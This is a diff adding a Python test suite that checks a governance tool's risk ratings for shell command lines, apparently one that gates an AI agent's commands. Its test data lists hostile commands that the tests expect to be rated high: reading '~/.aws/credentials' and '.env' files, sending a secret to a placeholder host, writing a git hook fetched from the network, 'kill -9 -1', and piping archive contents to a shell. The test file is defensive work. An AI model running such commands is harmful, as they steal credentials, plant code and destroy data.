@@ -1,0 +1,194 @@
+"""How often the risk of a command line is wrong, over the labelled lines of `tests/cases/risk`, and what a person is asked
+needlessly (004 §Future Extensions; governance.md §1).
+
+One half of each set is only counted: a failure names lines of the other half alone.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Sequence
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from risk_sets import HARMLESS, Case, read_cases
+
+from remit_governance.policy.builtin import BUILTIN
+from remit_governance.policy.compile import Source, compile_policy
+from remit_governance.policy.evaluate import evaluate
+from remit_governance.policy.extension import ScriptedRules, read_rule, with_extension
+from remit_governance.policy.risk import risk_of
+from remit_governance.policy.rules import Policy
+from remit_governance.policy.shell.effects.judging import PROGRAMS
+from remit_governance.policy.shell.effects.program import ORDER
+from remit_governance.values import Action, Verdict
+
+CASES = read_cases()
+HARMLESS_CASES = [case for case in CASES if case.kind == HARMLESS]
+HARMFUL_CASES = [case for case in CASES if case.kind != HARMLESS]
+
+
+def shown(cases: Sequence[Case]) -> list[str]:
+    """What a failure may say: the lines of the half to learn from, and how many there are of the other."""
+    held = sum(case.half == "held" for case in cases)
+    return [*(case.line for case in cases if case.half == "tune"), f"and {held} that are held back"]
+
+
+def test_the_sets_are_as_large_as_they_were() -> None:
+    assert (len(HARMLESS_CASES), len(HARMFUL_CASES)) == (534, 685)
+    assert {case.half for case in CASES} == {"tune", "held"}
+
+
+def test_harmless_lines_are_seldom_high() -> None:
+    high = [case for case in HARMLESS_CASES if case.wrong]
+    assert len(high) < len(HARMLESS_CASES) * 0.05, shown(high)
+
+
+def test_where_everything_is_allowed_harmless_lines_are_seldom_asked_about() -> None:
+    asked = [case for case in HARMLESS_CASES if case.verdict is not Verdict.ALLOW]
+    assert len(asked) < len(HARMLESS_CASES) * 0.03, shown(asked)
+
+
+def test_THR_shell_no_harmful_line_of_those_to_learn_from_is_less_than_high() -> None:
+    assert [case.line for case in HARMFUL_CASES if case.half == "tune" and case.wrong] == []
+
+
+def policy(*rules: dict[str, object]) -> Policy:
+    everything = {"name": "all", "match": {}, "action": "allow"}
+    return compile_policy([Source("p", json.dumps({"capabilities": [everything, *rules]}))])
+
+
+def test_THR_shell_harmful_lines_that_nobody_looked_at_are_hardly_ever_less_than_high() -> None:
+    wrong = [case for case in HARMFUL_CASES if case.half == "held" and case.wrong]
+    assert len(wrong) < len(HARMFUL_CASES) * 0.5 * 0.01
+
+
+DENIED_BY_ALL = {rule.name for rule in BUILTIN.rules if rule.verdict is Verdict.DENY}
+DENIED = {
+    word: policy({"name": "this", "match": {"risk": word}, "action": "deny"}) for word in ("low", "medium", "high")
+}
+
+
+@pytest.mark.parametrize("half", ["tune", "held"])
+def test_THR_shell_what_a_person_is_shown_is_the_highest_that_rules_see(half: str) -> None:
+    """A line that is shown as `medium` is denied by a rule about `medium`, and by none about `high`; for all lines."""
+    order = ("low", "medium", "high")
+    wrong = 0
+    for case in CASES:
+        if case.half == half:
+            action = Action("process.exec", script=case.line)
+            decisions = {word: evaluate(DENIED[word], action) for word in order}
+            seen = [word for word in order if "this" in decisions[word].rules]
+            # What a built-in rule denies, no other rule is asked about.
+            denied = any(each.rule in DENIED_BY_ALL for decision in decisions.values() for each in decision.reasons)
+            wrong += not denied and (not seen or max(seen, key=order.index) != risk_of(action))
+    assert wrong == 0
+
+
+@pytest.mark.parametrize("line", ["ls $X", "ls; $(made-up) x", "sh -c ls", "cat a | sh", "ls && rm -r x", "ls"])
+def test_THR_shell_a_rule_that_is_a_program_sees_the_risk_that_is_shown(line: str) -> None:
+    """Also where only the line as a whole is not certain: each part of it is high."""
+    ask = ScriptedRules({})
+    action = Action("process.exec", script=line)
+    evaluate(with_extension(policy(), [read_rule("rules/mine.py", "mine", RULE)], ask), action)
+    order = ("low", "medium", "high")
+    assert max((str(facts["risk"]) for facts in ask.asked), key=order.index) == risk_of(action)
+    if risk_of(action) == "high" and "&&" not in line:
+        assert {facts["risk"] for facts in ask.asked} == {"high"}
+
+
+RULE = "def rule(action):\n    return None\n"
+
+
+def test_each_choice_in_a_table_is_between_options_or_between_operands() -> None:
+    """`a|b -c` is two entries of two words; `--a|b -c` was meant otherwise."""
+    texts = (getattr(program, effect) for program in PROGRAMS.values() for effect in ORDER)
+    words = {word for text in texts for entry in text.split(",") for word in entry.split()}
+    assert [word for word in words if len({each.startswith("-") for each in word.split("|")}) > 1] == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git config core.pager x --get",
+        "git clean -fd -e -n",
+        "git checkout HEAD src",
+        "git branch -qD x",
+        "git rm -rf .",
+        "git restore -SW .",
+        "git reset --har",
+        "git fetch origin +main:main",
+        "go env -w GOFLAGS=-x",
+        "go test -exec /tmp/x ./...",
+        "cargo test --config 'x=\"y\"'",
+        "make CC='sh -c rm'",
+        "make SHELL=/tmp/x",
+        "npm test --script-shell=/tmp/x",
+        "npm run deploy",
+        "pip install -e git+https://example.org/x",
+        "python -c 'import os; print(os.system(1))'",
+        'node -p \'require("fs").rmSync("x")\'',
+        "sqlite3 a.db \"select writefile('x','y')\"",
+        "psql -c 'select 1; delete from x'",
+        "curl 'https://example.org/?x=secret'",
+        "curl -H 'Authorization: x' https://example.org",
+        "curl -o .git/hooks/pre-commit https://example.org/x",
+        "kubectl get pods,secrets",
+        "docker run --rm -v /:/x image",
+        "gh api -X DELETE repos/x",
+        "less '+!rm' a",
+        "tree -o .git/config",
+        "yq -i .a=1 package.json",
+        ": > src/a.py",
+        "cat /dev/null > src/a.py",
+        "cp /dev/null src/a.py",
+        "mv src /tmp",
+        "kill -9 -1",
+        "chmod u+s a",
+        "chmod 777 a",
+        "git show HEAD:.env",
+        "cp x node_modules/.bin/tsc",
+        "pytest --override-ini=addopts=/tmp/x",
+        "tar xf a.tar --to-command=sh",
+        "find . -exec rm {} +",
+        'for f in .env; do cat "$f"; done',
+        "echo $(cat .env)",
+        "cat {.env,a}",
+        "cat ~/.aws/credentials",
+    ],
+)
+def test_THR_shell_an_option_or_a_place_that_reaches_further_is_high(line: str) -> None:
+    """Of programs that are otherwise harmless."""
+    assert risk_of(Action("process.exec", script=line)) == "high"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        *('cat "$HOME/x"', "cat ~/x", 'for f in *; do cat "$f"; done', "cat {/home/me/x,y}", 'cat "$PWD"'),
+        *("diff <(cat /home/me/x) y", 'echo "$(cat /home/me/x)"'),
+    ],
+)
+def test_THR_shell_a_word_that_may_become_what_a_rule_denies_is_asked_about(line: str) -> None:
+    """`"$HOME/x"` raises no question of its own; where a rule denies `cat /home/me/x` it may be that."""
+    denies = policy({"name": "no", "match": {"command": "cat /home/me/x"}, "action": "deny"})
+    asks = policy({"name": "no", "match": {"command": "cat /home/me/x"}, "action": "require_review"})
+    action = Action("process.exec", script=line)
+    assert Case(line, HARMLESS, "tune").verdict is Verdict.ALLOW
+    assert evaluate(denies, action).verdict >= Verdict.REQUIRE_REVIEW
+    assert evaluate(asks, action).verdict is Verdict.REQUIRE_REVIEW
+
+
+PIECES = st.sampled_from(
+    [case.line for case in CASES if case.half == "tune" and len(case.line) < 80 and "<<" not in case.line]
+)
+
+
+@given(PIECES, PIECES)
+def test_a_line_is_no_less_than_its_parts(one: str, other: str) -> None:
+    order = ("low", "medium", "high")
+    alone = max((risk_of(Action("process.exec", script=line)) for line in (one, other)), key=order.index)
+    together = risk_of(Action("process.exec", script=f"{one}\n{other}"))
+    # A folder that one goes to may bring what the other names into the workspace.
+    assert order.index(together) >= order.index(alone) or "cd " in one
